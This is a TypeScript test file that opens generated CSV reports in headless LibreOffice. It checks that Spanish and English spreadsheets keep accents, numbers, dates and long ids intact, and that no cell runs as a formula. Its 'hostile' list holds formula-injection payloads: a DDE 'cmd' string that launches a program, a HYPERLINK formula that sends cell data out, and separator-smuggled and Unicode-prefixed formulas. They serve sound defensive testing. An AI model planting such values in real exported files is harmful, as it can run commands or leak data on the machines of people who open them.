import {execFileSync} from "node:child_process";
import {mkdir, mkdtemp, readFile, rm, writeFile} from "node:fs/promises";
import {tmpdir} from "node:os";
import {join} from "node:path";
import {pathToFileURL} from "node:url";
import {SaxesParser} from "saxes";
import {afterAll, beforeAll, expect, test} from "vitest";
import {findOffice} from "../../scripts/office.js";
import type {Context} from "../context.js";
import {silentLog} from "../log.js";
import {defaultSettings, homeAt} from "../settings.js";
import {literal, openWarehouse, type Warehouse} from "../warehouse.js";
import type {DialectName} from "./dialects.js";
import {writeReports} from "./report.js";

const office = findOffice();
if (office === null) {
  console.warn("spreadsheet tests SKIPPED: no LibreOffice found. Install libreoffice-calc-nogui, or set SOFFICE_PATH.");
}

let root: string;
let warehouse: Warehouse;

beforeAll(async () => {
  root = await mkdtemp(join(tmpdir(), "spreadsheet-"));
  warehouse = await openWarehouse(undefined, {threads: 2});
  await warehouse.run(`create schema marts; create schema ops; create table ops.models (name varchar, build_id integer);
    create table ops.as_of as select timestamptz '2026-03-03 01:00:00Z' as as_of;`);
});

afterAll(async () => {
  warehouse.close();
  await rm(root, {recursive: true, force: true});
});

interface Cell {
  /** As the spreadsheet took it: string, float, date, time … */
  type: string | undefined;
  /** Its number or date, or its text. */
  value: string;
  formula: string | undefined;
}

// How a Spain's, or an English, spreadsheet reads a CSV that somebody double-clicks: separator, quotes, UTF-8, the
// language of numbers and dates, special numbers recognised, formulas run.
const filters = {
  "excel-es": "59,34,76,1,,3082,false,true,false,false,false,-1,true",
  "excel-en": "44,34,76,1,,1033,false,true,false,false,false,-1,true",
  plain: "44,34,76,1,,1033,false,true,false,false,false,-1,true"
};

// Spreadsheets that split at another separator than the file's.
const elsewhere = {
  "a Spanish": filters["excel-es"],
  "an English": filters["excel-en"],
  "a Spanish one that splits at tabs": filters["excel-es"].replace("59", "9"),
  "an English one that splits at all of them": filters["excel-en"].replace("44", "44/59/9")
};

/** The report's cells, row by row from the header on, as LibreOffice opens them. */
async function opened(
  columns: [type: string, header?: string][],
  select: string,
  dialect: DialectName,
  filter = filters[dialect]
): Promise<Cell[][]> {
  const folder = await mkdtemp(join(root, "report-"));
  const lines = columns.map(([type, header], index) => {
    const console = header === undefined ? "" : `\n-- console ${header}`;
    return `-- column c${index} ${type}: A column.${console}`;
  });
  await mkdir(join(folder, "definitions"));
  await writeFile(
    join(folder, "definitions/cells.sql"),
    `-- Cells.\n--\n-- file cells_{day}.csv\n-- every day 07:00\n-- grain n\n${lines.join("\n")}\n\n${select} order by n`
  );
  const context: Context = {
    home: homeAt(folder),
    settings: {...defaultSettings, reports: {...defaultSettings.reports, dialect}},
    warehouse,
    log: silentLog,
    now: new Date("2026-03-03T07:00:00Z"),
    signal: new AbortController().signal
  };
  const {reports} = await writeReports(context, {folder: join(folder, "definitions"), out: folder, day: "2026-03-02"});
  const profile = pathToFileURL(join(root, "profile")).href;
  execFileSync(
    office!,
    [
      "--headless",
      `-env:UserInstallation=${profile}`,
      `--infilter=Text - txt - csv (StarCalc):${filter}`,
      ...["--convert-to", "fods", "--outdir", folder, reports[0]!.path]
    ],
    {stdio: "ignore", timeout: 120_000}
  );
  return readCells(await readFile(join(folder, "cells_2026-03-02.fods"), "utf8"));
}

function readCells(xml: string): Cell[][] {
  const rows: Cell[][] = [];
  let cell: Cell | null = null;
  let times = 1;
  let isText = false;
  const parser = new SaxesParser();
  parser.on("opentag", ({name, attributes}) => {
    if (name === "table:table-row") rows.push([]);
    if (name === "text:p") {
      if (cell !== null && isText && cell.value !== "") cell.value += "\n";
      isText = cell?.type === "string";
    }
    if (name !== "table:table-cell") return;
    const number = attributes["office:value"] ?? attributes["office:date-value"] ?? attributes["office:time-value"];
    cell = {type: attributes["office:value-type"], value: number ?? "", formula: attributes["table:formula"]};
    times = Number(attributes["table:number-columns-repeated"] ?? 1);
  });
  parser.on("text", (text) => {
    if (cell !== null && isText) cell.value += text;
  });
  parser.on("closetag", ({name}) => {
    if (name === "text:p") isText = false;
    if (name !== "table:table-cell" || cell === null) return;
    for (let time = 0; time < Math.min(times, 50); time += 1) rows.at(-1)!.push(cell);
    cell = null;
  });
  parser.write(xml).close();
  return rows;
}

test.skipIf(office === null)(
  "accents, decimals, dates, times and long ids open as they are in a Spanish Excel",
  async () => {
    const cells = await opened(
      [
        ["varchar", "redirección «Ñ»"],
        ["decimal(18,6)"],
        ["double"],
        ["date"],
        ["timestamp"],
        ["varchar"],
        ["varchar"],
        ["bigint"],
        ["varchar"],
        ["integer"],
        ["varchar"]
      ],
      `select 'Señor Ñandú; "el güero", 100 €' as c0, -1234567.891234::decimal(18, 6) as c1, 0.25::double as c2, $day as c3,
      timestamp '2026-12-31 23:59:59' as c4, '07/05/2020' as c5, '12345678901234567890' as c6,
      9007199254740993::bigint as c7, '0034600111222' as c8, 123456789::integer as c9, '23:57:41' as c10, 1 as n
    from range(1) as one(n)`,
      "excel-es"
    );
    expect(cells[0]![0]).toMatchObject({type: "string", value: "redirección «Ñ»"});
    expect(cells[1]!.slice(0, 11).map(({type, value}) => [type, value])).toEqual([
      ["string", 'Señor Ñandú; "el güero", 100 €'],
      ["float", "-1234567.891234"],
      ["float", "0.25"],
      ["date", "2026-03-02"],
      ["date", "2026-12-31T23:59:59"],
      ["date", "2020-05-07"],
      ["string", "'12345678901234567890"],
      ["string", "'9007199254740993"],
      ["string", "'0034600111222"],
      ["float", "123456789"],
      ["time", "PT23H57M41S"]
    ]);
  }
);

const hostile = [
  "=1+1",
  "+1+1",
  "-1+1",
  "@SUM(A1:A9)",
  "=cmd|' /C calc'!A0",
  '=HYPERLINK("http://example.com?"&A1,"click")',
  '=HYPERLINK("http://example.com";"click")',
  '"=1+1"',
  "'=1+1",
  "  =1+1",
  "\t=1+1",
  "\r=1+1",
  "\n=1+1",
  "hola;=1+1",
  "hola,=1+1",
  "hola\t=1+1",
  'hola";=1+1;"',
  "\u00a0=1+1",
  "\u200b=1+1",
  "\ufeff=1+1",
  "＝1+1",
  "＋1+1",
  ...[";", ",", "\t", "\n", "\r", "\r\n"].flatMap((separator) =>
    ["=1+1", "+1+1", "-1+1", "@SUM(A1)", ' "=1+1"', "'=1+1", '"""=1+1', "\u00a0=1+1", "-5"].flatMap((formula) =>
      [";", ",", "\t"].map((end) => `hola${separator}${formula}${end}adiós`)
    )
  )
];

test.skipIf(office === null).each(["excel-es", "excel-en", "plain"] as const)(
  "no cell and no header of a %s file is run as a formula, and each stands in its own column",
  async (dialect) => {
    const rows = hostile.map((value, index) => `(${index}, ${literal(value)}, 'end')`).join(", ");
    const headers = ["=1+1", '@SUM(A1);"x"', "+cmd|' /C calc'!A0"];
    const cells = await opened(
      [
        ["varchar", headers[0]],
        ["varchar", headers[1]],
        ["integer", headers[2]]
      ],
      `select text as c0, last as c1, n::integer as c2, n from (values ${rows}) as rows (n, text, last)`,
      dialect
    );
    expect(cells.flat().filter(({formula}) => formula !== undefined)).toEqual([]);
    expect(cells[0]!.slice(0, 3).map(({value}) => value)).toEqual(headers.map((header) => `'${header}`));
    expect(cells.slice(1, hostile.length + 1).map(([text, end, n]) => [text?.type, end?.value, n?.value])).toEqual(
      hostile.map((_, index) => ["string", "end", String(index)])
    );
  }
);

const places = Object.entries(elsewhere) as [keyof typeof elsewhere, string][];
test
  .skipIf(office === null)
  .each(
    (["excel-es", "excel-en", "plain"] as const).flatMap((dialect) =>
      places
        .filter(([, filter]) => filter !== filters[dialect])
        .map(([place, filter]) => [dialect, place, filter] as const)
    )
  )("a %s file has no cell that is run as a formula in %s spreadsheet", async (dialect, _, filter) => {
  const rows = hostile.map((value, index) => `(${index}, ${literal(value)}, 'end')`).join(", ");
  const cells = await opened(
    [["integer"], ["varchar", "hola;=1+1,=1+1;x"], ["varchar"]],
    `select n::integer as c0, text as c1, last as c2, n from (values ${rows}) as rows (n, text, last)`,
    dialect,
    filter
  );
  expect(cells.length).toBeGreaterThanOrEqual(hostile.length);
  expect(cells.flat().filter(({formula}) => formula !== undefined)).toEqual([]);
});

// What the tests above would see if nothing were defused.
test.skipIf(office === null)("LibreOffice runs what is not defused", async () => {
  await writeFile(join(root, "raw.csv"), "=1+1,+2+2\n");
  const profile = pathToFileURL(join(root, "profile")).href;
  const words = [
    "--headless",
    `-env:UserInstallation=${profile}`,
    `--infilter=Text - txt - csv (StarCalc):${filters.plain}`
  ];
  execFileSync(office!, [...words, "--convert-to", "fods", "--outdir", root, join(root, "raw.csv")], {
    stdio: "ignore",
    timeout: 120_000
  });
  const [[first]] = readCells(await readFile(join(root, "raw.fods"), "utf8")) as [[Cell]];
  expect(first).toMatchObject({type: "float", value: "2", formula: "of:=1+1"});
});
